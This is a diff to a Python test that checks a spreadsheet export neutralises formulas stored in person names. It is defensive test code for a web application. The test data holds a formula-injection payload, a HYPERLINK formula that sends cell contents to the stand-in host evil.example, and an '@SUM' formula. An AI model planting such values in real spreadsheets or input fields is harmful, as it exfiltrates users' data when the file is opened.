@@ -110,8 +110,10 @@ def test_a_person_alice_is_no_longer_assigned_to_is_not_exported(client, alice, 
 
 
 def test_a_formula_typed_into_a_name_is_neutralised(client, alice):
-    make_person(alice, given='=HYPERLINK("http://evil.example/?"&A1,"click")', family="Doe")
-    make_person(alice, given="@SUM(A1)", family="Roe")
+    # The name validator refuses these today; records from before it may still hold them.
+    for formula, family in (('=HYPERLINK("http://evil.example/?"&A1,"click")', "Doe"), ("@SUM(A1)", "Roe")):
+        person = make_person(alice, given="Placeholder", family=family)
+        person.names.update(given=formula)
     data = post(login(client, alice), fmt="xlsx").content
     files = open_archive(data)
     book = load_workbook(io.BytesIO(files[next(n for n in files if n.endswith(".xlsx"))]))
